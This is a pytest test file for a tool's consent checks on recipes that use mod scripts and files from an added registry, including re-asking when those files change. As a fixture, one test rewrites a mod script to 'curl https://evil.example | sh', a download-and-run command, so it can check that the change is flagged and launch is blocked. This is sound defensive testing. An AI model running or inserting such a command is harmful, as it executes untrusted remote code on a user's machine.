"""D1: what a registry lends to a recipe of the user's own is asked about like what it offers itself."""

from __future__ import annotations

from pathlib import Path

import pytest

from sparkrun_tui.base.disk import paths
from sparkrun_tui.base.errors import LaunchError
from sparkrun_tui.base.user.settings import Settings
from sparkrun_tui.cli.main import run
from sparkrun_tui.launch.plan.consent import consent_needed, give, insist_on_consent, question, unasked_as_a_copy
from sparkrun_tui.recipe.bundled_files.attachments import find_attachments
from sparkrun_tui.recipe.registry.registries import add_registry, update_registries
from sparkrun_tui.recipe.search.sources import find_recipe
from sparkrun_tui.recipe.trust import Kind
from sparkrun_tui.recipe.values.overrides import render
from sparkrun_tui.recipe.values.rendered import Rendered
from tests.recipe.upstream import Upstream

HEAD = "model: org/m\nruntime: vllm\ncontainer: a/b:1\ncommand: vllm serve org/m\n"


def tools(tmp_path: Path) -> Upstream:
    """A registry with one mod, added as `tools`."""
    stream = Upstream(tmp_path / "tools").write("mods/fix/run.sh", "echo harmless\n").write("recipes/y.yaml", HEAD)
    stream.commit()
    add_registry(str(stream.folder), "tools")
    return stream


def own(text: str) -> Rendered:
    """A recipe in the user's own folder."""
    file = paths.user_recipes() / "mine.yaml"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    return render(find_recipe(str(file), Settings()), {})


def test_a_mod_of_a_registry_is_asked_about_and_again_when_it_changes(tmp_path: Path) -> None:
    stream = tools(tmp_path)
    mine = own(HEAD + "mods: ['@tools/fix']\n")
    asked = consent_needed(mine, {})
    assert [demand.kind for demand in asked] == [Kind.MODS]
    assert "echo harmless" in asked[0].detail
    assert "is yours, but runs files of the registry tools" in question(mine)
    give(mine)
    assert consent_needed(mine, {}) == ()
    edited = own(HEAD + "# a comment\nmods: ['@tools/fix']\n")
    assert consent_needed(edited, {}) == (), "the user's own changes are no reason to ask"
    stream.write("mods/fix/run.sh", "touch CANARY; curl https://evil.example | sh\n").commit()
    update_registries(["tools"])
    asked = consent_needed(mine, {})
    assert "touch CANARY" in asked[0].detail
    assert "downloads a script and runs it" in [demand.title for demand in asked]
    assert "have changed since you agreed" in question(mine)
    with pytest.raises(LaunchError, match="needs your consent"):
        insist_on_consent(mine, {}, find_attachments(mine))


def test_the_command_line_asks(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tools(tmp_path)
    own(HEAD + "mods: ['@tools/fix']\n")
    code = run(["run", "mine", "--demo"], open_app=lambda demo, cluster, query: 0)
    told = capsys.readouterr()
    assert code != 0
    assert "files of the registry tools" in told.out + told.err
    assert "echo harmless" in told.out + told.err


def test_a_copy_is_agreed_to_with_its_original(tmp_path: Path) -> None:
    stream = tools(tmp_path)
    stream.write("recipes/z.yaml", HEAD + "mods: [fix]\n").commit()
    update_registries(["tools"])
    give(render(find_recipe("@tools/z", Settings()), {}))
    assert consent_needed(own(HEAD + "mods: ['@tools/fix']\n"), {}) == ()


def test_the_users_own_files_are_never_asked_about(tmp_path: Path) -> None:
    tools(tmp_path)
    mod = paths.user_recipes() / "fix"
    mod.mkdir(parents=True)
    (mod / "run.sh").write_text("echo mine\n")
    mine = own(HEAD + "mods: [fix]\npre_exec: [touch x]\n")
    assert consent_needed(mine, {}) == ()
    assert (
        unasked_as_a_copy(own(HEAD + "mods: ['@tools/fix']\n"), {}, paths.user_recipes() / "c.yaml", Settings()) == ()
    )


def test_files_that_change_places_are_asked_about_again(tmp_path: Path) -> None:
    text = HEAD + "pre_exec: [{copy: notes.txt, dest: /docs}, {copy: start.sh, dest: /opt}, bash /opt/start.sh]\n"
    stream = Upstream(tmp_path / "r").write("recipes/x.yaml", text)
    stream.write("recipes/notes.txt", "touch CANARY\n").write("recipes/start.sh", "echo harmless\n").commit()
    add_registry(str(stream.folder), "arena")
    give(render(find_recipe("@arena/x", Settings()), {}))
    assert consent_needed(render(find_recipe("@arena/x", Settings()), {}), {}) == ()
    stream.write("recipes/notes.txt", "echo harmless\n").write("recipes/start.sh", "touch CANARY\n").commit()
    update_registries(["arena"])
    assert consent_needed(render(find_recipe("@arena/x", Settings()), {}), {})
